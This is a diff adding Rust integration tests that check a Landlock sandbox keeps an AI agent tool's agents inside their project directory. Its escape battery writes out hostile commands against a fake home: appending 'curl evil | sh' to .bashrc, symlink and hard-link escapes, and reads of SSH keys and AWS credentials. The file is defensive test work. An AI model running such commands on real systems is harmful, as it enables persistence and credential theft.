@@ -1,0 +1,410 @@
+//! The fence through Berth itself (issue 34): every agent Berth starts is kept to its
+//! directory by the kernel, on the desktop (`berth serve`) and through a daemon.
+//!
+//! - the escape battery: a command agent bound to `~/code/app` tries to write
+//!   `~/.bashrc`, a sibling project directly and through a symlink in its directory,
+//!   to hard-link a file from outside into it and write through it, and to read
+//!   `~/.ssh/id_ed25519`, `~/.aws/credentials`, `serve.json` and `berth.db`; each
+//!   attempt fails, writing inside the directory and in its `TMPDIR` works, the fake
+//!   home hashes the same before and after, and the transcript says `fenced: …`;
+//!   the control: the same battery with the user's `"fence": "off"` escapes;
+//! - the same battery through a daemon;
+//! - `"fence": "required"` on a machine without one (`BERTH_FENCE_PROBE=unavailable`):
+//!   refused `fence_unavailable`, the agent never ran, nothing was written; `auto`
+//!   there runs unfenced and says so;
+//! - a project layer's `"fence": "off"` is ignored and reported, and the run is fenced.
+//!
+//! Linux only: elsewhere no fence is built yet.
+#![cfg(target_os = "linux")]
+
+use berth_tests::Berth;
+use berth_tests::steps::{add_command_agent, s, send_json};
+use serde_json::Value;
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+/// The battery: each line is `NAME: done` or `NAME: refused`.
+const BATTERY: &str = r#"
+try() { name=$1; shift; if ( "$@" ) >/dev/null 2>&1; then echo "$name: done"; else echo "$name: refused"; fi; }
+try bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
+try sibling sh -c 'echo pwn > "$HOME/code/other/pwn.txt"'
+try sibling_via_symlink sh -c 'echo pwn > ./to-other/pwn2.txt'
+try hardlink sh -c 'ln "$HOME/victim.txt" ./hl && echo pwn >> ./hl'
+try ssh_key cat "$HOME/.ssh/id_ed25519"
+try aws cat "$HOME/.aws/credentials"
+try serve_json cat "$BERTH_STATE/serve.json"
+try berth_db cat "$BERTH_STATE/berth.db"
+try inside sh -c 'echo ok > inside.txt && grep -q ok inside.txt'
+try tmpdir sh -c 'case "$TMPDIR" in "$BERTH_STATE"/tmp/*) ;; *) exit 1;; esac && echo ok > "$TMPDIR/t" && grep -q ok "$TMPDIR/t"'
+"#;
+
+/// The escapes, each expected refused when fenced.
+const ESCAPES: [&str; 8] = [
+    "bashrc",
+    "sibling",
+    "sibling_via_symlink",
+    "hardlink",
+    "ssh_key",
+    "aws",
+    "serve_json",
+    "berth_db",
+];
+
+/// A fake home with secrets, a sibling project and `~/code/app` holding a symlink to
+/// it; returns the app directory.
+fn world(b: &Berth) -> PathBuf {
+    let h = &b.user_home;
+    let app = h.join("code/app");
+    for d in [
+        &app,
+        &h.join("code/other"),
+        &h.join(".ssh"),
+        &h.join(".aws"),
+    ] {
+        std::fs::create_dir_all(d).unwrap();
+    }
+    std::fs::write(h.join(".bashrc"), "# rc\n").unwrap();
+    std::fs::write(h.join(".ssh/id_ed25519"), "PRIVATE KEY\n").unwrap();
+    std::fs::write(h.join(".aws/credentials"), "[default]\nkey=secret\n").unwrap();
+    std::fs::write(h.join("victim.txt"), "victim\n").unwrap();
+    std::fs::write(h.join("code/other/main.rs"), "fn main() {}\n").unwrap();
+    std::os::unix::fs::symlink(h.join("code/other"), app.join("to-other")).unwrap();
+    app
+}
+
+/// Every file of the fake home outside Berth's state and the app directory, hashed.
+fn hashes(b: &Berth) -> BTreeMap<PathBuf, u64> {
+    use std::hash::{Hash, Hasher};
+    let mut out = BTreeMap::new();
+    let skip = [b.home.clone(), b.user_home.join("code/app")];
+    let mut stack = vec![b.user_home.clone()];
+    while let Some(dir) = stack.pop() {
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        for e in entries.flatten() {
+            let p = e.path();
+            if skip.iter().any(|s| p.starts_with(s)) {
+                continue;
+            }
+            let meta = std::fs::symlink_metadata(&p).unwrap();
+            if meta.is_dir() {
+                stack.push(p);
+            } else {
+                let mut h = std::collections::hash_map::DefaultHasher::new();
+                std::fs::read(&p).unwrap_or_default().hash(&mut h);
+                out.insert(p, h.finish());
+            }
+        }
+    }
+    out
+}
+
+/// The battery as a command agent that knows where Berth's state is (as an agent could
+/// find out).
+fn battery_agent(b: &Berth, name: &str) {
+    battery_agent_on(b, name, &b.home);
+}
+
+/// [`battery_agent`], registered on `b` (a server), aimed at the Berth home `state`
+/// of the machine it runs on.
+fn battery_agent_on(b: &Berth, name: &str, state: &Path) {
+    let script = format!("BERTH_STATE='{}'\n{BATTERY}", s(state));
+    add_command_agent(b, name, &script);
+}
+
+/// The agent's `NAME: outcome` lines and the `berth:` lines of a transcript.
+fn outcomes(events: &[Value]) -> (BTreeMap<String, String>, Vec<String>) {
+    let mut results = BTreeMap::new();
+    let mut berth = Vec::new();
+    for e in events {
+        let p = &e["payload"];
+        if let Some(text) = p["text"].as_str().filter(|_| p["type"] == "text")
+            && let Some((k, v)) = text.split_once(": ")
+        {
+            results.insert(k.to_owned(), v.to_owned());
+        }
+        if let Some(line) = p["line"].as_str().filter(|l| l.starts_with("berth: ")) {
+            berth.push(line.to_owned());
+        }
+    }
+    (results, berth)
+}
+
+fn user_settings(b: &Berth, text: &str) {
+    std::fs::write(b.config.join("settings.jsonc"), text).unwrap();
+}
+
+fn assert_fenced(b: &Berth, app: &Path, events: &[Value], task: &Value) {
+    let (results, berth) = outcomes(events);
+    assert_eq!(task["status"], "succeeded", "{task}\n{events:?}");
+    for name in ESCAPES {
+        assert_eq!(
+            results.get(name).map(String::as_str),
+            Some("refused"),
+            "{name} must be refused by the fence: {results:?}"
+        );
+    }
+    for name in ["inside", "tmpdir"] {
+        assert_eq!(
+            results.get(name).map(String::as_str),
+            Some("done"),
+            "{name} must work: {results:?}"
+        );
+    }
+    assert!(
+        berth
+            .iter()
+            .any(|l| l.starts_with("berth: fenced: ~/code/app + tmp") && l.contains("· network on")),
+        "the transcript says the run is fenced: {berth:?}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(app.join("inside.txt")).unwrap(),
+        "ok\n"
+    );
+    assert!(!b.user_home.join("code/other/pwn.txt").exists());
+    assert!(!b.user_home.join("code/other/pwn2.txt").exists());
+    // The task's temporary directory is gone after the run.
+    let left: Vec<_> = std::fs::read_dir(b.home.join("tmp"))
+        .map(|d| d.flatten().map(|e| e.path()).collect())
+        .unwrap_or_default();
+    assert!(left.is_empty(), "the task's tmp is removed: {left:?}");
+}
+
+/// The escape battery through `berth serve`, fenced by default; and its control: the
+/// user's `"fence": "off"` lets every escape through (so the battery can see them).
+#[test]
+fn the_escape_battery_fails_through_berth_serve_and_escapes_with_the_fence_off() {
+    let mut b = Berth::new("fence-battery");
+    let app = world(&b);
+    b.serve();
+    battery_agent(&b, "battery");
+    let session = b.json(&[
+        "session",
+        "new",
+        "--agent",
+        "battery",
+        "--dir",
+        s(&app),
+        "--json",
+    ])["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let before = hashes(&b);
+    let (_, events, task) = send_json(&b, &session, "go");
+    assert_fenced(&b, &app, &events, &task);
+    assert_eq!(hashes(&b), before, "the fake home is unchanged");
+
+    // The control: unfenced, the same agent escapes.
+    user_settings(&b, r#"{ "fence": "off" }"#);
+    let (_, events, task) = send_json(&b, &session, "again");
+    let (results, berth) = outcomes(&events);
+    assert_eq!(task["status"], "succeeded", "{task}");
+    for name in [
+        "bashrc",
+        "sibling",
+        "sibling_via_symlink",
+        "ssh_key",
+        "aws",
+        "serve_json",
+    ] {
+        assert_eq!(
+            results.get(name).map(String::as_str),
+            Some("done"),
+            "unfenced, {name} escapes: {results:?}"
+        );
+    }
+    assert!(
+        berth
+            .iter()
+            .any(|l| l.starts_with("berth: warning: unfenced:")),
+        "{berth:?}"
+    );
+    assert_ne!(hashes(&b), before);
+}
+
+/// The same battery through a daemon: a session bound on the daemon's machine.
+#[test]
+fn the_escape_battery_fails_through_a_daemon() {
+    let mut srv = Berth::new("fence-daemon-srv");
+    srv.serve_with(&["--allow-daemons"]);
+    let (url, _) = srv.serve_info();
+    let v = srv.json(&["daemon", "token", "create", "laptop", "--json"]);
+    let token = v["token"].as_str().unwrap().to_owned();
+    let mut a = Berth::new("fence-daemon-a");
+    let app = world(&a);
+    a.daemon(&url, &token, "laptop");
+    // Agents are the server's to register; it runs on the daemon's machine.
+    battery_agent_on(&srv, "battery", &a.home);
+    let session = a.json(&[
+        "session",
+        "new",
+        "--agent",
+        "battery",
+        "--dir",
+        s(&app),
+        "--json",
+    ])["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let before = hashes(&a);
+    let (_, events, task) = send_json(&a, &session, "go");
+    assert_fenced(&a, &app, &events, &task);
+    assert_eq!(hashes(&a), before, "the fake home is unchanged");
+}
+
+/// `"fence": "required"` where the kernel (as the probe says) has no fence: refused
+/// with `fence_unavailable` before anything is written; the agent never ran. Under
+/// `auto` the same machine runs unfenced and says so (the control: the refusal is
+/// the setting's, not the probe's).
+#[test]
+fn a_required_fence_is_refused_where_there_is_none_and_nothing_is_written() {
+    let mut b = Berth::new("fence-required");
+    let app = world(&b);
+    b.env("BERTH_FENCE_PROBE", "unavailable");
+    b.serve();
+    let marker = b.root.path().join("ran");
+    add_command_agent(
+        &b,
+        "w",
+        &format!("echo x > written.txt; touch '{}'", s(&marker)),
+    );
+    user_settings(
+        &b,
+        &format!(
+            r#"{{ "fence": {{ "mode": "required", "write": ["{}"] }} }}"#,
+            s(b.root.path())
+        ),
+    );
+    let session = b.json(&["session", "new", "--agent", "w", "--dir", s(&app), "--json"])["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let listing = |d: &Path| -> Vec<String> {
+        let mut v: Vec<String> = std::fs::read_dir(d)
+            .unwrap()
+            .flatten()
+            .map(|e| e.file_name().to_string_lossy().into_owned())
+            .collect();
+        v.sort();
+        v
+    };
+    let before = listing(&app);
+    let (_, events, task) = send_json(&b, &session, "go");
+    assert_eq!(
+        (task["status"].as_str(), task["error_code"].as_str()),
+        (Some("refused"), Some("fence_unavailable")),
+        "{task}"
+    );
+    let error = task["error"].as_str().unwrap_or_default();
+    assert!(
+        error.contains("\"fence\": \"required\"") && error.contains("no Landlock"),
+        "the message names the rule and the kernel's answer: {error}"
+    );
+    let (_, berth) = outcomes(&events);
+    assert!(
+        berth
+            .iter()
+            .any(|l| l.starts_with("berth: hint:") && l.contains("Landlock")),
+        "{berth:?}"
+    );
+    assert!(!marker.exists(), "the agent never ran");
+    assert_eq!(
+        listing(&app),
+        before,
+        "nothing was written into the directory"
+    );
+    assert!(!b.home.join("tmp").exists() || listing(&b.home.join("tmp")).is_empty());
+
+    // The control: "auto" on the same machine runs, unfenced, and says so.
+    user_settings(
+        &b,
+        &format!(r#"{{ "fence": {{ "write": ["{}"] }} }}"#, s(b.root.path())),
+    );
+    let (_, events, task) = send_json(&b, &session, "go");
+    assert_eq!(task["status"], "succeeded", "{task}");
+    assert!(marker.exists());
+    let (_, berth) = outcomes(&events);
+    assert!(
+        berth
+            .iter()
+            .any(|l| l.starts_with("berth: warning: unfenced: the kernel has no Landlock")),
+        "{berth:?}"
+    );
+}
+
+/// A project layer cannot turn the fence off, trusted or not: the key is reported in
+/// the run's `ignored` event and the run is fenced.
+#[test]
+fn a_project_layers_fence_off_is_ignored_and_reported() {
+    let mut b = Berth::new("fence-project-off");
+    let app = world(&b);
+    std::fs::create_dir_all(app.join(".berth")).unwrap();
+    std::fs::write(
+        app.join(".berth/settings.jsonc"),
+        r#"{ "fence": { "mode": "off", "write": ["~/"] } }"#,
+    )
+    .unwrap();
+    b.serve();
+    battery_agent(&b, "battery");
+    let session = b.json(&[
+        "session",
+        "new",
+        "--agent",
+        "battery",
+        "--dir",
+        s(&app),
+        "--json",
+    ])["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    for trusted in [false, true] {
+        if trusted {
+            b.ok(&["trust", s(&app)]);
+        }
+        let (_, events, task) = send_json(&b, &session, "go");
+        let ignored = events
+            .iter()
+            .find(|e| e["payload"]["type"] == "ignored")
+            .unwrap_or_else(|| panic!("an ignored event: {events:?}"));
+        let keys: Vec<(&str, &str)> = ignored["payload"]["keys"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|k| (k["key"].as_str().unwrap(), k["verdict"].as_str().unwrap()))
+            .collect();
+        assert_eq!(
+            keys,
+            [
+                ("fence.mode", "user_layer_only"),
+                ("fence.write", "user_layer_only")
+            ],
+            "trusted: {trusted}"
+        );
+        let (results, _) = outcomes(&events);
+        assert_eq!(task["status"], "succeeded", "{task}");
+        assert_eq!(results.get("bashrc").map(String::as_str), Some("refused"));
+        assert_eq!(results.get("ssh_key").map(String::as_str), Some("refused"));
+        // Written inside by the first run: the directory is the agent's.
+        let _ = std::fs::remove_file(app.join("inside.txt"));
+    }
+    let shown = b.json(&["settings", "show", "--session", &session, "--json"]);
+    let keys = &shown["settings"]["project_layer"]["keys"];
+    assert!(
+        keys.as_array()
+            .unwrap()
+            .iter()
+            .any(|k| k["key"] == "fence.mode" && k["verdict"] == "user_layer_only"),
+        "settings show reports the ignored fence key: {shown}"
+    );
+    user_settings(&b, r#"{ "fence": { "network": "off" } }"#);
+    let out = b.ok(&["settings", "show", "--session", &session]);
+    assert!(
+        out.lines()
+            .any(|l| l.contains("fence.network") && l.contains("\"off\"")),
+        "settings show shows the fence in force: {out}"
+    );
+}
